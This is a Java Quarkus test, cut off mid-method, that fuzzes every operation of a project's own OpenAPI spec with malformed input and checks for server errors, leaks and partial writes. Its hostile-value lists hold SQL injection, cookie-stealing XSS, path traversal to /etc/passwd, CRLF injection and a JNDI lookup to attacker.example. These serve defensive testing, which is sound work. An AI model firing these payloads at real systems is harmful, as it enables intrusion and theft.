package org.vigil.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.vigil.platform.security.Roles;
import org.vigil.testsupport.Tokens;

/**
 * A generated bad-input campaign over every operation of the committed openapi/openapi.yaml (so
 * operations added later are covered without touching this class): wrong types, missing and extra
 * fields, huge strings and numbers, invalid UTF-8, deep nesting, wrong media types, path traversal,
 * injection strings and oversized bodies, with and without tokens. Every answer must be below 500,
 * every 4xx a problem+json whose status matches, every status one the operation documents (or a
 * generic one, see {@link #GENERIC}), no body may leak internals, and no tip may be half-written.
 *
 * <p>Deterministic: the seed is printed with every failure; rerun with {@code -Dcampaign.seed=...}.
 */
@QuarkusTest
class BadInputCampaignTest {

    private static final long SEED = Long.getLong("campaign.seed", 20260730L);
    /** At least this many requests in one run, spread over the operations. */
    private static final int MIN_REQUESTS = 6000;

    private static final int MIN_PER_OPERATION = 100;
    private static final int THREADS = 4;

    /**
     * Answers that no operation can document, because the request no longer reaches it: 404 (a traversal
     * or encoded slash in a path segment no longer matches the operation's route) and 405 (it then
     * matches another route with other methods). Everything else (406, 411, 413, 414, 415, 429, 431,
     * 503...) must be documented on the operation (ProblemResponsesFilter); a documented answer
     * without content (the HTTP codec's 414 and 431) must come with an empty body.
     */
    private static final Set<Integer> GENERIC = Set.of(404, 405);

    /** Internals that must never reach a client in an error answer. */
    private static final List<String> LEAKS = List.of("\tat ", "Exception", "org.vigil", "SQL", "jackson", "hibernate");
    /** Header parameters filled from a field of an earlier answer with another name. */
    private static final Map<String, String> HEADER_SOURCES = Map.of("X-Receipt-Code", "receipt");

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String DEEP_ARRAY = "[".repeat(10_000) + "]".repeat(10_000);
    private static final String DEEP_OBJECT = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);

    private static final List<String> HOSTILE_STRINGS = List.of(
            "",
            " ",
            "x".repeat(70_000),
            "ự".repeat(5_000),
            "0",
            "-1",
            "1.5",
            "1e309",
            "NaN",
            "99999999999999999999999999",
            "-9223372036854775809",
            "true",
            "null",
            "[]",
            "{}",
            "' OR '1'='1",
            "1; DROP TABLE tip; --",
            "\" OR 1=1 -- ",
            "') UNION SELECT password FROM users --",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/etc/passwd%00.jpg",
            "\u0000",
            "\r\nX-Injected: 1",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "%s%s%s%n",
            "\uD83D\uDE00".repeat(300),
            "\uD800",
            "\u202Eabc",
            "ﬃ",
            "2026-02-30",
            "9999-12-31T23:59:59Z",
            "+84 912 345 678",
            "lừa đảo",
            "A".repeat(300));

    /** Hostile values for path and query segments that are sent as they are (already URL-encoded). */
    private static final List<String> RAW_SEGMENTS = List.of(
            "../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%2e%2e",
            "%00",
            "%ff%fe",
            "%c0%ae%c0%ae%2f",
            "%e2%82",
            "%",
            "%zz",
            "..;/..;/",
            "a%0d%0aX-Injected:%201",
            "%u002e%u002e");

    private static final List<String> WRONG_CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "application/json; charset=ISO-8859-1",
            "@@@/;;;",
            "application/octet-stream",
            "image/png",
            "application/problem+json",
            "");

    @Inject
    AgroalDataSource dataSource;

    private final Random random = new Random(SEED);
    private final HttpClient http = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10))
            .build();
    private String base;
    private JsonNode document;
    private final List<String> roles = allRoles();
    private final Map<String, Map<String, String>> harvested = new ConcurrentHashMap<>();
    private final List<String> failures = Collections.synchronizedList(new ArrayList<>());
    private final Set<String> tipReferences = ConcurrentHashMap.newKeySet();
    private final AtomicInteger messagesCreated = new AtomicInteger();
    private final Set<String> messageKeys = ConcurrentHashMap.newKeySet();
    private final AtomicInteger sent = new AtomicInteger();
    private final Map<Integer, Integer> statuses = new ConcurrentHashMap<>();

    record Param(String name, String in, JsonNode schema, boolean required, String example) {}

    record Op(
            String method,
            String path,
            List<Param> params,
            Map<String, JsonNode> bodies,
            boolean bodyRequired,
            boolean secured,
            Set<Integer> documented,
            Set<Integer> bodiless,
            List<String> allowedRoles) {

        String id() {
            return method.toUpperCase() + " " + path;
        }
    }

    /** One generated request. */
    record Case(Op op, String label, String url, Map<String, String> headers, byte[] body, boolean chunked) {}

    @Test
    void noHostileRequestGetsA5xxALeakOrAnUndocumentedAnswer() throws Exception {
        long started = System.nanoTime();
        base = "http://localhost:" + RestAssured.port;
        document = new YAMLMapper().readTree(Path.of("openapi", "openapi.yaml").toFile());
        List<Op> ops = operations();
        assertThat(ops).as("operations in openapi/openapi.yaml").hasSizeGreaterThan(10);
        Map<String, Long> tipRowsBefore = tipRowCounts();

        // Valid requests first, in document order with creating POSTs first: their answers give real
        // ids, slugs and receipts so that hostile cases also reach the code behind the lookups.
        List<Op> ordered = new ArrayList<>(ops);
        ordered.sort((a, b) -> Boolean.compare(a.path().contains("{"), b.path().contains("{")));
        List<Op> probed = new ArrayList<>();
        for (Op op : ordered) {
            Op withRoles = op.secured() ? probeRoles(op) : op;
            probed.add(withRoles);
            execute(validCase(withRoles));
        }

        List<Case> cases = new ArrayList<>();
        int perOperation = Math.max(MIN_PER_OPERATION, (MIN_REQUESTS + probed.size() - 1) / probed.size());
        for (Op op : probed) {
            cases.addAll(casesFor(op, perOperation));
        }
        Collections.shuffle(cases, random);
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        try {
            List<Future<?>> running = new ArrayList<>();
            for (Case c : cases) {
                running.add(pool.submit(() -> execute(c)));
            }
            for (Future<?> f : running) {
                f.get(5, TimeUnit.MINUTES);
            }
        } finally {
            pool.shutdownNow();
        }

        Map<String, Long> tipRowsAfter = tipRowCounts();
        long seconds = Duration.ofNanos(System.nanoTime() - started).toSeconds();
        System.out.printf(
                "Bad-input campaign: %d requests over %d operations in %d s (seed %d); answers %s;"
                        + " %d tips and %d tip messages created%n",
                sent.get(),
                ops.size(),
                seconds,
                SEED,
                new java.util.TreeMap<>(statuses),
                tipReferences.size(),
                messagesCreated.get());
        assertThat(sent.get()).as("requests sent").isGreaterThanOrEqualTo(5000);
        if (!failures.isEmpty()) {
            List<String> sorted = new ArrayList<>(failures);
            Collections.sort(sorted);
            java.nio.file.Files.write(
                    Path.of("target", "campaign-failures.txt"),
                    sorted.stream()
                            .map(f -> f.replaceAll("[\\uD800-\\uDFFF]", "?"))
                            .toList(),
                    StandardCharsets.UTF_8);
            throw new AssertionError(failures.size() + " campaign failures (seed " + SEED
                    + ", rerun with -Dcampaign.seed=" + SEED + "):\n"
                    + String.join("\n", sorted.subList(0, Math.min(80, sorted.size()))));
        }
        // A rejected tip request leaves nothing behind: every new tip row was answered 201.
        assertThat(tipRowsAfter.get("tip") - tipRowsBefore.get("tip"))
                .as("new tips = distinct references answered 201 (seed %d)", SEED)
                .isEqualTo(tipReferences.size());
        assertThat(tipRowsAfter.get("tip_message") - tipRowsBefore.get("tip_message"))
                .as("new tip messages = messages answered 201 (seed %d)", SEED)
                .isEqualTo(messagesCreated.get());
        assertThat(tipRowsAfter.get("orphans")).as("tip rows without their tip").isZero();
    }

    // ---------------------------------------------------------------- the operations

    private List<Op> operations() {
        List<Op> ops = new ArrayList<>();
        document.path("paths")
                .fields()
                .forEachRemaining(path -> path.getValue().fields().forEachRemaining(entry -> {
                    String method = entry.getKey();
                    if (!Set.of("get", "post", "put", "delete", "patch").contains(method)) {
                        return;
                    }
                    JsonNode op = entry.getValue();
                    List<Param> params = new ArrayList<>();
                    for (JsonNode p : iterable(path.getValue().path("parameters"))) {
                        params.add(param(p));
                    }
                    for (JsonNode p : iterable(op.path("parameters"))) {
                        params.add(param(p));
                    }
                    Map<String, JsonNode> bodies = new LinkedHashMap<>();
                    op.path("requestBody")
                            .path("content")
                            .fields()
                            .forEachRemaining(c -> bodies.put(c.getKey(), c.getValue()));
                    Set<Integer> documented = new LinkedHashSet<>();
                    Set<Integer> bodiless = new LinkedHashSet<>();
                    op.path("responses").fields().forEachRemaining(response -> {
                        if (response.getKey().matches("\\d{3}")) {
                            documented.add(Integer.parseInt(response.getKey()));
                            if (!response.getValue().has("content")) {
                                bodiless.add(Integer.parseInt(response.getKey()));
                            }
                        }
                    });
                    boolean secured = op.path("security").size() > 0
                            || (!op.has("security") && document.path("security").size() > 0);
                    ops.add(new Op(
                            method,
                            path.getKey(),
                            params,
                            bodies,
                            op.path("requestBody").path("required").asBoolean(false),
                            secured,
                            documented,
                            bodiless,
                            List.of()));
                }));
        return ops;
    }

    private Param param(JsonNode p) {
        JsonNode resolved = resolve(p);
        String example = resolved.has("example") ? resolved.get("example").asText() : null;
        return new Param(
                resolved.path("name").asText(),
                resolved.path("in").asText(),
                resolve(resolved.path("schema")),
                resolved.path("required").asBoolean(false),
                example);
    }

    /** The roles that are let through (anything but 403) with otherwise valid input. */
    private Op probeRoles(Op op) {
        List<String> allowed = new ArrayList<>();
        for (String role : roles) {
            Case c = validCase(op, Tokens.bearer("campaign-" + role, role));
            HttpResponse<byte[]> answer = execute(c);
            if (answer != null && answer.statusCode() != 403) {
                allowed.add(role);
            }
        }
        return new Op(
                op.method(),
                op.path(),
                op.params(),
                op.bodies(),
                op.bodyRequired(),
                op.secured(),
                op.documented(),
                op.bodiless(),
                allowed.isEmpty() ? roles : allowed);
    }

    private static List<String> allRoles() {
        List<String> names = new ArrayList<>();
        for (Field f : Roles.class.getDeclaredFields()) {
            if (Modifier.isStatic(f.getModifiers()) && f.getType() == String.class) {
                try {
                    f.setAccessible(true);
                    names.add((String) f.get(null));
                } catch (IllegalAccessException e) {
                    throw new IllegalStateException(e);
                }
            }
        }
        return names;
    }

    // ---------------------------------------------------------------- generated cases

    private Case validCase(Op op) {
        return validCase(op, op.secured() ? token(op) : null);
    }

    private Case validCase(Op op, String authorization) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (authorization != null) {
            headers.put("Authorization", authorization);
        }
        byte[] body = null;
        if (!op.bodies().isEmpty()) {
            String type = op.bodies().keySet().iterator().next();
            body = validBody(op, type);
            headers.put("Content-Type", contentTypeHeader(type));
        }
        headers.putAll(validHeaders(op));
        return new Case(op, "valid", url(op, Map.of(), Map.of()), headers, body, false);
    }

    private List<Case> casesFor(Op op, int count) {
        List<Case> cases = new ArrayList<>();
        // Each parameter gets every raw traversal segment and a share of the hostile strings.
        for (Param p : op.params()) {
            if (p.in().equals("path") || p.in().equals("query")) {
                for (String raw : RAW_SEGMENTS) {
                    cases.add(paramCase(op, p, raw, true));
                }
            }
            for (String s : HOSTILE_STRINGS) {
                if (s.length() < 1000 || p.in().equals("query") || p.in().equals("path") || random.nextInt(4) == 0) {
                    cases.add(paramCase(op, p, s, false));
                }
            }
            if (p.required()) {
                cases.add(missingParamCase(op, p));
            }
        }
        if (!op.bodies().isEmpty()) {
            for (String type : WRONG_CONTENT_TYPES) {
                cases.add(bodyCase(op, "content type " + type, type, validBodyOfFirstType(op)));
            }
            for (String type : op.bodies().keySet()) {
                cases.add(bodyCase(op, "deep array", type, DEEP_ARRAY.getBytes(StandardCharsets.UTF_8)));
                cases.add(bodyCase(op, "deep object", type, DEEP_OBJECT.getBytes(StandardCharsets.UTF_8)));
                cases.add(bodyCase(op, "oversized", type, oversized(1_100_000)));
                cases.add(new Case(
                        op,
                        "oversized chunked",
                        url(op, Map.of(), Map.of()),
                        withAuth(op, Map.of("Content-Type", contentTypeHeader(type))),
                        oversized(2_200_000),
                        true));
                cases.add(bodyCase(op, "empty body", type, new byte[0]));
                for (String top : List.of("null", "[]", "\"text\"", "42", "{", "{\"a\":1,\"a\":2}", "{}")) {
                    cases.add(bodyCase(op, "body " + top, type, top.getBytes(StandardCharsets.UTF_8)));
                }
            }
        } else if (!op.method().equals("get")) {
            cases.add(
                    bodyCase(op, "unexpected body", "application/json", "{\"id\":1}".getBytes(StandardCharsets.UTF_8)));
        }
        cases.add(headerCase(op, "Accept", "application/xml"));
        cases.add(headerCase(op, "Accept", "text/html;q=abc, */*;q=-1"));
        cases.add(headerCase(op, "Accept-Language", "xx-YY;q=abc, ;;;, *"));
        cases.add(headerCase(op, "Accept-Language", "vi-".repeat(1500)));
        cases.add(headerCase(op, "If-None-Match", "\"" + "x".repeat(2000)));
        cases.add(headerCase(op, "If-Match", "W/\"-1\", ' OR 1=1 --"));
        cases.add(headerCase(op, "Authorization", "Bearer not.a.jwt"));
        cases.add(headerCase(op, "Authorization", "Basic YWRtaW46YWRtaW4="));
        cases.add(headerCase(op, "Authorization", "Bearer " + "A".repeat(5000)));
        cases.add(new Case(
                op,
                "unknown query parameter",
                url(op, Map.of(), Map.of("debug", "true", "__proto__", "x")),
                validCase(op).headers(),
                validCase(op).body(),
                false));
        while (cases.size() < count) {
            cases.add(randomCase(op));
        }
        return cases;
    }

    private Case randomCase(Op op) {
        int kind = random.nextInt(10);
        if (kind < 5 && !op.bodies().isEmpty()) {
            String type = pick(new ArrayList<>(op.bodies().keySet()));
            return type.startsWith("multipart/") ? multipartCase(op, type) : mutatedJsonCase(op, type);
        }
        if (kind < 8 && !op.params().isEmpty()) {
            Param p = pick(op.params());
            return paramCase(op, p, hostileString(), false);
        }
        if (kind == 8 && op.secured()) {
            String role = pick(roles);
            return withAuthorization(validCase(op), "wrong role " + role, Tokens.bearer("campaign", role));
        }
        if (op.secured()) {
            return withAuthorization(validCase(op), "no token", null);
        }
        return headerCase(
                op,
                "Accept-Language",
                hostileString().replaceAll("[\\r\\n\\x00-\\x1f]", "").replaceAll("[^\\x20-\\x7e]", "?"));
    }

    private Case paramCase(Op op, Param p, String value, boolean raw) {
        Map<String, String> headers = new LinkedHashMap<>(validCase(op).headers());
        Map<String, String> pathValues = new LinkedHashMap<>();
        Map<String, String> queryValues = new LinkedHashMap<>();
        switch (p.in()) {
            case "path" -> pathValues.put(p.name(), raw ? raw(value) : encode(value));
            case "query" -> queryValues.put(p.name(), raw ? raw(value) : encode(value));
            case "header" -> {
                if (value.length() > 6000 || !value.matches("[\\x20-\\x7e]*")) {
                    value = value.replaceAll("[^\\x20-\\x7e]", "?");
                    value = value.substring(0, Math.min(value.length(), 6000));
                }
                headers.put(p.name(), value);
            }
            default -> {
                return headerCase(op, "Cookie", p.name() + "=" + encode(value));
            }
        }
        return new Case(
                op,
                p.in() + " " + p.name() + " = " + abbreviate(value),
                url(op, pathValues, queryValues),
                headers,
                validCase(op).body(),
                false);
    }

    private Case missingParamCase(Op op, Param p) {
        Case valid = validCase(op);
        Map<String, String> headers = new LinkedHashMap<>(valid.headers());
        headers.remove(p.name());
        String url = valid.url();
        if (p.in().equals("path")) {
            url = url(op, Map.of(p.name(), ""), Map.of());
        }
        return new Case(op, "missing " + p.in() + " " + p.name(), url, headers, valid.body(), false);
    }

    private Case headerCase(Op op, String name, String value) {
        Case valid = validCase(op);
        Map<String, String> headers = new LinkedHashMap<>(valid.headers());
        if (value == null) {
            headers.remove(name);
        } else {
            headers.put(name, value);
        }
        return new Case(op, "header " + name + " = " + abbreviate(value), valid.url(), headers, valid.body(), false);
    }

    private Case withAuthorization(Case c, String label, String authorization) {
        Map<String, String> headers = new LinkedHashMap<>(c.headers());
        headers.remove("Authorization");
        if (authorization != null) {
            headers.put("Authorization", authorization);
        }
        return new Case(c.op(), label, c.url(), headers, c.body(), false);
    }

    private Case bodyCase(Op op, String label, String contentType, byte[] body) {
        Map<String, String> headers = new LinkedHashMap<>(validCase(op).headers());
        headers.remove("Content-Type");
        if (!contentType.isEmpty()) {
            headers.put("Content-Type", contentTypeHeader(contentType));
        }
        return new Case(op, label, url(op, Map.of(), Map.of()), headers, body, false);
    }

    private Case mutatedJsonCase(Op op, String type) {
        JsonNode body = validJson(op, type);
        int kind = random.nextInt(6);
        String label;
        if (!(body instanceof ObjectNode) && !(body instanceof ArrayNode)) {
            body = hostileJson();
            label = "body replaced by " + abbreviate(body.toString());
        } else if (kind == 0) {
            List<String[]> paths = new ArrayList<>();
            collectFields(body, "", paths);
            if (paths.isEmpty()) {
                return bodyCase(
                        op, "hostile body", type, hostileJson().toString().getBytes(StandardCharsets.UTF_8));
            }
            String[] victim = pick(paths);
            removeAt(body, victim[0]);
            label = "missing field " + victim[0];
        } else if (kind == 1) {
            String name = pick(
                    List.of("id", "status", "version", "createdAt", "isAdmin", "__proto__", "role", "x".repeat(300)));
            ((ObjectNode) container(body)).set(name, hostileJson());
            label = "extra field " + abbreviate(name);
        } else if (kind == 2) {
            byte[] bytes = invalidUtf8(body);
            return bodyCase(op, "invalid UTF-8", type, bytes);
        } else {
            List<String[]> paths = new ArrayList<>();
            collectFields(body, "", paths);
            if (paths.isEmpty()) {
                ((ObjectNode) container(body)).set("unexpected", hostileJson());
                label = "extra field unexpected";
            } else {
                String[] victim = pick(paths);
                JsonNode value = hostileJson();
                replaceAt(body, victim[0], value);
                label = "field " + victim[0] + " = " + abbreviate(value.toString());
            }
        }
        return bodyCase(op, label, type, body.toString().getBytes(StandardCharsets.UTF_8));
    }

    private Case multipartCase(Op op, String type) {
        String boundary = "campaign" + Long.toHexString(random.nextLong());
        JsonNode schema = resolve(op.bodies().get(type).path("schema"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int kind = random.nextInt(5);
        StringBuilder label = new StringBuilder("multipart");
        schema.path("properties").fields().forEachRemaining(prop -> {
            JsonNode propSchema = resolve(prop.getValue());
            boolean binary = propSchema.path("format").asText().equals("binary")
                    || resolve(propSchema.path("items")).path("format").asText().equals("binary");
            if (kind == 0 && random.nextBoolean()) {
                label.append(" without ").append(prop.getKey());
                return;
            }
            if (binary) {
                String name = kind == 1
                        ? pick(List.of("../../etc/passwd", "<script>.jpg", "a\u0000.pdf", "x".repeat(3000)))
                        : "photo.jpg";
                byte[] content = kind == 2
                        ? oversized(300_000)
                        : pick(List.of(
                                "not an image".getBytes(StandardCharsets.UTF_8),
                                new byte[0],
                                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE1, 0, 8, 'E', 'x', 'i', 'f'
                                },
                                "%PDF-1.4\n%%EOF".getBytes(StandardCharsets.UTF_8)));
                part(
                        out,
                        boundary,
                        prop.getKey(),
                        name,
                        pick(List.of("image/jpeg", "application/pdf", "text/html")),
                        content);
                label.append(" file ").append(abbreviate(name));
            } else {
                String partType = op.bodies()
                        .get(type)
                        .path("encoding")
                        .path(prop.getKey())
                        .path("contentType")
                        .asText("text/plain");
                String value = kind == 3
                        ? hostileJson().toString()
                        : kind == 4
                                ? DEEP_ARRAY
                                : partType.contains("json")
                                        ? generate(propSchema, 0).toString()
                                        : hostileString();
                part(out, boundary, prop.getKey(), null, partType, value.getBytes(StandardCharsets.UTF_8));
                label.append(" ").append(prop.getKey()).append("=").append(abbreviate(value));
            }
        });
        if (random.nextInt(4) != 0) {
            out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        } else {
            label.append(" unterminated");
        }
        Map<String, String> headers = new LinkedHashMap<>(validCase(op).headers());
        headers.put(
                "Content-Type",
                random.nextInt(8) == 0 ? "multipart/form-data" : "multipart/form-data; boundary=" + boundary);
        return new Case(op, label.toString(), url(op, Map.of(), Map.of()), headers, out.toByteArray(), false);
    }

    private static void part(
            ByteArrayOutputStream out, String boundary, String name, String filename, String type, byte[] content) {
        String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\""
                + (filename == null ? "" : "; filename=\"" + filename.replace("\"", "") + "\"") + "\r\nContent-Type: "
                + type
                + "\r\n\r\n";
        out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
        out.writeBytes(content);
        out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
    }

    // ---------------------------------------------------------------- valid inputs

    private Map<String, String> validHeaders(Op op) {
        Map<String, String> headers = new LinkedHashMap<>();
        for (Param p : op.params()) {
            if (p.in().equals("header")) {
                String value = harvestedValue(op, HEADER_SOURCES.getOrDefault(p.name(), p.name()));
                if (value == null && p.name().equalsIgnoreCase("Idempotency-Key")) {
                    value = "campaign-" + Long.toHexString(random.nextLong());
                }
                if (value == null) {
                    value = p.example() != null
                            ? p.example()
                            : generate(p.schema(), 0).asText();
                }
                headers.put(p.name(), value);
            }
        }
        return headers;
    }

    private String url(Op op, Map<String, String> pathValues, Map<String, String> queryValues) {
        String path = op.path();
        for (Param p : op.params()) {
            if (p.in().equals("path")) {
                String value = pathValues.get(p.name());
                if (value == null) {
                    String known = harvestedValue(op, p.name());
                    // never a small example id: a valid path must not reach other tests' rows
                    value = encode(
                            known != null
                                    ? known
                                    : p.schema().path("type").asText().equals("integer")
                                            ? "987654321987"
                                            : exampleOrGenerated(p));
                }
                path = path.replace("{" + p.name() + "}", value);
            }
        }
        StringBuilder query = new StringBuilder();
        queryValues.forEach((name, value) -> query.append(query.length() == 0 ? "?" : "&")
                .append(encode(name))
                .append('=')
                .append(value));
        return base + path + query;
    }

    private String exampleOrGenerated(Param p) {
        return p.example() != null ? p.example() : generate(p.schema(), 0).asText();
    }

    private String harvestedValue(Op op, String name) {
        String best = null;
        int bestLength = -1;
        for (Map.Entry<String, Map<String, String>> entry : harvested.entrySet()) {
            String prefix = entry.getKey();
            String value = entry.getValue().get(name);
            if (value != null && op.path().startsWith(prefix) && prefix.length() > bestLength) {
                best = value;
                bestLength = prefix.length();
            }
        }
        return best;
    }

    private byte[] validBody(Op op, String type) {
        if (type.startsWith("multipart/")) {
            return new byte[0];
        }
        return validJson(op, type).toString().getBytes(StandardCharsets.UTF_8);
    }

    private byte[] validBodyOfFirstType(Op op) {
        return validBody(op, op.bodies().keySet().iterator().next());
    }

    private JsonNode validJson(Op op, String type) {
        JsonNode media = op.bodies().get(type);
        if (media.has("examples") && media.get("examples").size() > 0) {
            return media.get("examples").elements().next().path("value").deepCopy();
        }
        if (media.has("example")) {
            return media.get("example").deepCopy();
        }
        return generate(resolve(media.path("schema")), 0);
    }

    /** A plausible value for a schema: its example, an enum value, or something of the right type. */
    private JsonNode generate(JsonNode schema, int depth) {
        schema = resolve(schema);
        if (schema.has("examples") && schema.get("examples").size() > 0) {
            return schema.get("examples").get(0).deepCopy();
        }
        if (schema.has("example")) {
            return schema.get("example").deepCopy();
        }
        if (schema.has("enum") && schema.get("enum").size() > 0) {
            return schema.get("enum").get(0).deepCopy();
        }
        for (String combinator : List.of("allOf", "oneOf", "anyOf")) {
            if (schema.has(combinator) && schema.get(combinator).size() > 0) {
                return generate(schema.get(combinator).get(0), depth + 1);
            }
        }
        String type = schema.path("type").isArray()
                ? schema.path("type").get(0).asText()
                : schema.path("type").asText("object");
        switch (type) {
            case "string" -> {
                return switch (schema.path("format").asText()) {
                    case "date" -> NODES.textNode("2026-07-30");
                    case "date-time" -> NODES.textNode("2026-07-30T08:00:00Z");
                    case "uri", "url" -> NODES.textNode("https://example.org/campaign");
                    default -> NODES.textNode("campaign-" + Integer.toHexString(random.nextInt()));
                };
            }
            case "integer", "number" -> {
                return NODES.numberNode(Math.max(1, schema.path("minimum").asLong(1)));
            }
            case "boolean" -> {
                return NODES.booleanNode(true);
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (depth < 6) {
                    array.add(generate(schema.path("items"), depth + 1));
                }
                return array;
            }
            default -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 6) {
                    schema.path("properties")
                            .fields()
                            .forEachRemaining(p -> object.set(p.getKey(), generate(p.getValue(), depth + 1)));
                }
                return object;
            }
        }
    }

    private JsonNode resolve(JsonNode node) {
        int guard = 0;
        while (node.has("$ref") && guard++ < 10) {
            JsonNode target = document;
            for (String part : node.get("$ref").asText().replaceFirst("^#/", "").split("/")) {
                target = target.path(part);
            }
            node = target;
        }
        return node;
    }

    // ---------------------------------------------------------------- hostile values

    private String hostileString() {
        return pick(HOSTILE_STRINGS);
    }

    private JsonNode hostileJson() {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.numberNode(new java.math.BigDecimal("1e400"));
            case 1 -> NODES.numberNode(new java.math.BigInteger("9".repeat(60)));
            case 2 -> NODES.numberNode(-1);
            case 3 -> NODES.numberNode(1.5);
            case 4 -> NODES.booleanNode(random.nextBoolean());
            case 5 -> NODES.nullNode();
            case 6 -> NODES.arrayNode().add(hostileString()).add(NODES.objectNode());
            case 7 -> NODES.objectNode().put("$where", "1==1").put("value", hostileString());
            case 8 -> {
                ArrayNode many = NODES.arrayNode();
                for (int i = 0; i < 5000; i++) {
                    many.add("x");
                }
                yield many;
            }
            case 9 -> NODES.numberNode(Long.MAX_VALUE);
            default -> NODES.textNode(hostileString());
        };
    }

    private byte[] invalidUtf8(JsonNode body) {
        String marker = "INVALID-UTF8-MARKER";
        List<String[]> paths = new ArrayList<>();
        collectFields(body, "", paths);
        if (!paths.isEmpty()) {
            replaceAt(body, pick(paths)[0], NODES.textNode(marker));
        }
        byte[] bytes = (paths.isEmpty() ? "\"" + marker + "\"" : body.toString()).getBytes(StandardCharsets.UTF_8);
        byte[] bad = pick(List.of(
                new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xFF, (byte) 0xFE},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x82}));
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int at = text.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, at);
        out.writeBytes(bad);
        out.write(bytes, at + marker.length(), bytes.length - at - marker.length());
        return out.toByteArray();
    }

    private static byte[] oversized(int size) {
        StringBuilder body = new StringBuilder(size + 16).append("{\"narrative\":\"");
        body.append("a".repeat(size)).append("\"}");
        return body.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Paths (a.b[0].c) of every value below the root, to pick one to replace or remove. */
    private static void collectFields(JsonNode node, String prefix, List<String[]> out) {
        if (node instanceof ObjectNode object) {
            object.fieldNames().forEachRemaining(name -> {
                String path = prefix.isEmpty() ? name : prefix + "." + name;
                out.add(new String[] {path});
                collectFields(object.get(name), path, out);
            });
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                String path = prefix + "[" + i + "]";
                out.add(new String[] {path});
                collectFields(array.get(i), path, out);
            }
        }
    }

    private static JsonNode parentOf(JsonNode root, List<String> steps) {
        JsonNode node = root;
        for (String step : steps.subList(0, steps.size() - 1)) {
            node = step.startsWith("[")
                    ? node.get(Integer.parseInt(step.substring(1, step.length() - 1)))
                    : node.get(step);
        }
        return node;
    }

    private static List<String> steps(String path) {
        List<String> steps = new ArrayList<>();
        for (String part : path.split("\\.")) {
            int bracket = part.indexOf('[');
            if (bracket < 0) {
                steps.add(part);
                continue;
            }
            if (bracket > 0) {
                steps.add(part.substring(0, bracket));
            }
            for (String index : part.substring(bracket).split("(?=\\[)")) {
                steps.add(index);
            }
        }
        return steps;
    }

    private static void replaceAt(JsonNode root, String path, JsonNode value) {
        List<String> steps = steps(path);
        JsonNode parent = parentOf(root, steps);
        String last = steps.get(steps.size() - 1);
        if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last.substring(1, last.length() - 1)), value);
        } else if (parent instanceof ObjectNode object) {
            object.set(last, value);
        }
    }

    private static void removeAt(JsonNode root, String path) {
        List<String> steps = steps(path);
        JsonNode parent = parentOf(root, steps);
        String last = steps.get(steps.size() - 1);
        if (parent instanceof ArrayNode array) {
            array.remove(Integer.parseInt(last.substring(1, last.length() - 1)));
        } else if (parent instanceof ObjectNode object) {
            object.remove(last);
        }
    }

    private static JsonNode container(JsonNode body) {
        if (body instanceof ArrayNode array) {
            ObjectNode wrapper = NODES.objectNode();
            array.add(wrapper);
            return wrapper;
        }
        return body;
    }

    // ---------------------------------------------------------------- sending and checking

    private HttpResponse<byte[]> execute(Case c) {
        HttpRequest request;
        try {
            HttpRequest.Builder builder =
